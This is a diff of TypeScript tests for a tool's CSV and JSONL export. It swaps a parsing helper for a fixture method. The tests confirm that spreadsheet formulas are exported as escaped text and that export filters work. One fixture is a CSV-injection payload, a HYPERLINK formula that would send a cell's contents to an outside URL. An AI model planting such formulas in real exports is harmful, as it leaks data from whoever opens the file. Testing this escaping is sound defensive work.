@@ -9,7 +9,6 @@ import type { Fields } from "../../../../src/forms/intake-contract.ts";
 import { submissionFor } from "../mail/forms.ts";
 import { candidate } from "../store/candidate.ts";
 import { day, desk, now } from "./desk.ts";
-import { parseCsv } from "./parse-csv.ts";
 
 const formulas = [
   `=HYPERLINK("https://example.org?"&A1,"Click")`,
@@ -69,25 +68,25 @@ function sent(message: string) {
 
 describe("csv", () => {
   test.each(formulas)("exports %j as text", async (formula) => {
-    const { inbox } = await desk([sent(formula)]);
-    const [row] = parseCsv((await inbox("export", "--format", "csv")).out);
+    const { rows } = await desk([sent(formula)]);
+    const [row] = await rows();
     expect(row?.message).toBe(`'${formula}`);
   });
 
   test.each(innocent)("exports %j unchanged", async (text) => {
-    const { inbox } = await desk([sent(text)]);
-    const [row] = parseCsv((await inbox("export", "--format", "csv")).out);
+    const { rows } = await desk([sent(text)]);
+    const [row] = await rows();
     expect(row?.message).toBe(text);
   });
 
   test("joins multiple choices in one cell and keeps a list in jsonl", async () => {
     const interest = ["circles", "ceu"];
-    const { inbox } = await desk([
+    const { inbox, rows } = await desk([
       { form: "waitlist", fields: { interest } },
       { form: "waitlist", fields: { interest: ["=1"] } },
     ]);
-    const rows = parseCsv((await inbox("export", "--format", "csv")).out);
-    expect(rows.map((row) => row.interest).toSorted()).toEqual(["'=1", "circles, ceu"]);
+    const exported = await rows();
+    expect(exported.map((row) => row.interest).toSorted()).toEqual(["'=1", "circles, ceu"]);
     expect((await inbox("export", "--format", "jsonl")).out).toContain('"interest":["circles","ceu"]');
   });
 
@@ -102,9 +101,9 @@ describe("csv", () => {
   });
 
   test("marks a submission as withdrawn if its sender withdrew it", async () => {
-    const { store, inbox } = await desk([{ id: "taken-back", fields: { message: "Hi" } }]);
+    const { store, rows } = await desk([{ id: "taken-back", fields: { message: "Hi" } }]);
     await store.withdraw("taken-back", [], now);
-    const [row] = parseCsv((await inbox("export", "--format", "csv")).out);
+    const [row] = await rows();
     expect(row).toMatchObject({ taken_back_eastern: "2026-11-21 12:00:00", message: "" });
   });
 
@@ -121,16 +120,15 @@ describe("csv", () => {
   });
 
   test("filters by form, state, and date, oldest first", async () => {
-    const { inbox } = await desk([
+    const { rows } = await desk([
       { reference: "KG-22222222", receivedAt: now },
       { reference: "KG-33333333", receivedAt: now - 2 * day },
       { reference: "KG-44444444", form: "sponsor", state: "quarantined" },
     ]);
-    const references = async (...args: string[]) =>
-      parseCsv((await inbox("export", "--format", "csv", ...args)).out).map(({ reference }) => reference);
-    expect(await references("--form", "contact")).toEqual(["KG-33333333", "KG-22222222"]);
-    expect(await references("--since", "2026-11-20", "--state", "received")).toEqual(["KG-22222222"]);
-    expect(await references("--state", "quarantined")).toEqual(["KG-44444444"]);
+    const exported = async (...args: string[]) => (await rows(...args)).map(({ reference }) => reference);
+    expect(await exported("--form", "contact")).toEqual(["KG-33333333", "KG-22222222"]);
+    expect(await exported("--since", "2026-11-20", "--state", "received")).toEqual(["KG-22222222"]);
+    expect(await exported("--state", "quarantined")).toEqual(["KG-44444444"]);
   });
 });
 
@@ -219,8 +217,8 @@ async function newsletter() {
 }
 
 test("exports confirmed addresses with page and times of request and confirmation", async () => {
-  const { inbox } = await newsletter();
-  expect(parseCsv((await inbox("export", "--subscribers")).out)).toEqual([
+  const { inbox, rows } = await newsletter();
+  expect(await rows("--subscribers")).toEqual([
     {
       address: "ama@example.org",
       state: "confirmed",
@@ -246,11 +244,11 @@ test("counts the addresses in a file", async () => {
 });
 
 test("exports newsletter forms with the current state of each address", async () => {
-  const { inbox } = await newsletter();
-  const rows = parseCsv((await inbox("export", "--form", "newsletter")).out);
+  const { inbox, rows } = await newsletter();
+  const exported = await rows("--form", "newsletter");
   const states = ["confirmed", "not confirmed", "unsubscribed"];
-  expect(rows.map(({ newsletter }) => newsletter).toSorted()).toEqual(states);
-  const ama = rows.find(({ email }) => email === "ama@example.org");
+  expect(exported.map(({ newsletter }) => newsletter).toSorted()).toEqual(states);
+  const ama = exported.find(({ email }) => email === "ama@example.org");
   expect(ama).toMatchObject({ newsletter: "confirmed", page: "/academy" });
   const lines = (await inbox("export", "--format", "jsonl", "--form", "newsletter")).out.trimEnd().split("\n");
   expect(lines.map((line) => JSON.parse(line).newsletter).toSorted()).toEqual(states);
